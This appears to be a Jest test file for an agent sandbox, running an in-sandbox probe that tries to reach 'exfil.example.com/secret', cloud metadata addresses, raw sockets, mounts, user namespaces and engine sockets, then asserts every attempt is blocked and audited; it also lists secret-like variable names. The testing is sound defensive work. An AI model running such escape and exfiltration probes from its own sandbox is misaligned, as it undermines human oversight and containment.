import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { StartedStack } from './started-stack.ts';

/** Counts every contact, on every address of this machine: what leaves the sandbox by any way but egress shows up here. */
interface Canary {
  readonly port: number;
  contacts(): number;
  close(): void;
}

async function canary(): Promise<Canary> {
  let count = 0;
  const server: Server = createServer((socket) => {
    count += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const udp: Socket = createSocket('udp4', () => {
    count += 1;
  });
  await new Promise<void>((resolve) => udp.bind(port, '0.0.0.0', resolve));
  return {
    port,
    contacts: () => count,
    close: () => {
      server.close();
      udp.close();
    },
  };
}

const hostAddress =
  Object.values(networkInterfaces())
    .flat()
    .find((each) => each?.family === 'IPv4' && !each.internal)?.address ?? '127.0.0.1';

/** A probe inside the sandbox: prints one line of JSON. */
const probe = (port: number): string => `
import net from 'node:net'; import dgram from 'node:dgram'; import dns from 'node:dns/promises'; import http from 'node:http'; import { execFileSync } from 'node:child_process';
const out = {};
const tcp = (host, port) => new Promise((resolve) => { const s = net.connect({ host, port, timeout: 120000 }); s.on('connect', () => { s.write('GET / HTTP/1.1\\r\\nhost: ' + (host.includes(':') ? '[' + host + ']' : host) + '\\r\\nconnection: close\\r\\n\\r\\n'); }); let text=''; s.on('data', (d) => { text += d; }); s.on('close', () => resolve(text.split('\\r\\n')[0] || 'closed')); s.on('timeout', () => { s.destroy(); resolve('hang'); }); s.on('error', (e) => resolve(e.code)); });
for (const host of ['${hostAddress}', '127.0.0.1', '8.8.8.8', '2001:4860:4860::8888']) out['canary ' + host] = await tcp(host, ${port});
for (const host of ['169.254.169.254', 'fd00:ec2::254', '169.254.170.2', '100.100.100.200', '10.0.0.1', '1.1.1.1', '::1']) out['http ' + host] = await tcp(host, 80);
const udp = dgram.createSocket('udp4'); udp.on('error', () => {});
for (const host of ['${hostAddress}', '8.8.8.8', '127.0.0.1']) { try { udp.send('x', ${port}, host); } catch (e) { out['udp ' + host] = e.code; } }
out.txt = await dns.resolveTxt('leak.canary.example').then(() => 'answered', (e) => e.code);
out.name = await new Promise((resolve) => http.get('http://exfil.example.com/secret', (r) => { let b=''; r.on('data', (d) => b += d); r.on('end', () => resolve(r.statusCode + ' ' + b)); }).on('error', (e) => resolve(e.code)));
out.tls = await import('node:tls').then((tls) => new Promise((resolve) => { const s = tls.connect({ host: '1.1.1.1', port: 443, servername: 'exfil.example.com', timeout: 120000 }); s.on('secureConnect', () => resolve('connected')); s.on('timeout', () => resolve('hang')); s.on('error', (e) => resolve(e.code ?? String(e))); }));
out.model = await new Promise((resolve) => http.request('http://model.sallyport.internal/v1/messages', { method: 'HEAD' }, (r) => resolve(r.statusCode)).on('error', (e) => resolve(e.code)).end());
const sh = (c) => { try { return execFileSync('sh', ['-c', c], { stdio: ['ignore', 'pipe', 'pipe'] }).toString().trim(); } catch (e) { return 'failed: ' + (e.stderr?.toString().trim().split('\\n').pop() ?? ''); } };
out.raw = sh('python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)" 2>&1 || true');
out.caps = sh('grep -E "^Cap(Inh|Prm|Eff|Bnd|Amb)" /proc/self/status | cut -f2 | sort -u');
out.nnp = sh('grep NoNewPrivs /proc/self/status | cut -f2'); out.seccomp = sh('grep "^Seccomp:" /proc/self/status | cut -f2'); out.uid = sh('id -u');
out.links = sh('cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d " "');
out.mount = sh('mount -t tmpfs none /mnt'); out.userns = sh('unshare -Ur true'); out.root = sh('touch /x'); out.sysctl = sh('echo 1 > /proc/sys/kernel/hostname');
out.sockets = sh('ls /var/run/docker.sock /run/containerd/containerd.sock 2>/dev/null | wc -l'); out.home = sh('ls /root /home 2>/dev/null | wc -l');
out.pids = sh('ls /proc | grep -c "^[0-9]"'); out.env = Object.keys(process.env).sort();
console.log('PROBE ' + JSON.stringify(out)); process.exit(0);
`;

let stack: StartedStack;
let seen: Readonly<Record<string, unknown>>;
let trap: Canary;
let runId: string;

beforeAll(async () => {
  trap = await canary();
  stack = await StartedStack.start();
  const { provider } = await stack.rest.get<{ provider: unknown }>('/v1/roles/editor');
  await stack.rest.put('/v1/roles/prober', { name: 'prober', runner: 'exec', provider, profile: stack.profile });
  const run = await stack.create({
    role: 'prober',
    argv: ['/opt/sallyport/node', '--input-type=module', '-e', probe(trap.port)],
    task: 'probe',
  });
  runId = run.id;
  const ended = await stack.ended(run.id);
  const text = await stack.written(run.id);
  const line = /PROBE (.+)/.exec(text)?.[1];
  if (line === undefined) throw new Error(`the probe did not end (${ended.state} ${ended.reason}):\n${text}`);
  seen = JSON.parse(line) as Readonly<Record<string, unknown>>;
});

afterAll(async () => {
  trap.close();
  await stack.stop();
});

describe('from inside the sandbox', () => {
  test('the model answers', () => {
    expect(seen['model']).toBe(200);
  });

  test('nothing reaches a canary outside, by TCP, UDP, IPv6 or DNS', () => {
    expect(trap.contacts()).toBe(0);
  });

  test.each(['169.254.169.254', 'fd00:ec2::254', '169.254.170.2', '100.100.100.200', '10.0.0.1', '1.1.1.1'])(
    'plain HTTP to %s is answered 403',
    (host) => {
      expect(seen[`http ${host}`]).toMatch(/^HTTP\/1\.1 403 /);
    },
  );

  test('a name it may not reach is a clean 403 with a closed reason and a decision', () => {
    expect(seen['name']).toMatch(/^403 /);
    expect(seen['name']).toMatch(/"reason":"host_not_allowed"/);
    expect(seen['name']).toMatch(/"decision":"dec_[0-9a-z]{26}"/);
  });

  test('TLS to a denied host is a clean alert, never a hang', () => {
    expect(seen['tls']).toMatch(/ALERT|ACCESS_DENIED|access denied/i);
  });

  test('a denied name has no TXT record and no query of it leaves', () => {
    expect(seen['txt']).toMatch(/ENODATA|ENOTFOUND/);
  });

  test('there is no network but loopback', () => {
    expect(seen['links']).toBe('lo');
  });

  test('there is no capability, no new privilege, a filter, and an ordinary user', () => {
    expect(seen).toMatchObject({ caps: '0000000000000000', nnp: '1', seccomp: '2', uid: '1000' });
  });

  test.each(['mount', 'userns', 'root', 'sysctl'])('%s is refused', (what) => {
    expect(seen[what]).toMatch(/^failed: /);
  });

  test('no raw socket can be made', () => {
    expect(String(seen['raw'])).toMatch(/not permitted|PermissionError|not found/);
  });

  test('nothing of the host is there: no engine sockets, no homes, no processes, no secrets in the environment', () => {
    expect(seen).toMatchObject({ sockets: '0', home: '0' });
    expect(Number(seen['pids'])).toBeLessThan(12);
    for (const name of seen['env'] as readonly string[])
      expect(name).not.toMatch(/TOKEN|KEY|SECRET|SEED|PASSWORD|DATABASE|NATS/);
  });

  test('each denial is one audit event with the decision that the agent saw', async () => {
    const decision = /"decision":"(dec_[0-9a-z]{26})"/.exec(String(seen['name']))?.[1];
    const { items } = await stack.rest.get<{ items: readonly { kind: string; decision: string; reason: string }[] }>(
      `/v1/audit/events?run=${runId}&limit=1000`,
    );
    const denials = items.filter((event) => event.decision === decision);
    expect(denials).toHaveLength(1);
    expect(denials[0]).toMatchObject({ kind: 'egress.deny', reason: 'host_not_allowed' });
    const told = (await stack.events(runId)).filter(
      (event) => event.type === 'egress.decided' && event.data['decision'] === decision,
    );
    expect(told).toHaveLength(1);
  });
});
